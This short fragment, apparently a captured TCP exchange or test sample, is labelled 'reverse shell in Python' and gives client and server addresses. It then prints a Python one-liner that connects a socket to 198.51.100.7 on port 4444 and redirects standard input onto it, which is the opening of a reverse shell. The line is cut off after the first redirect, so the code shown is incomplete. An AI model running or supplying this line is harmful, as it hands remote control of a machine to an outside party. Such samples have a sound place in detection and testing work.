# reverse shell in Python.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:6000

>>>
import socket,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0)\n
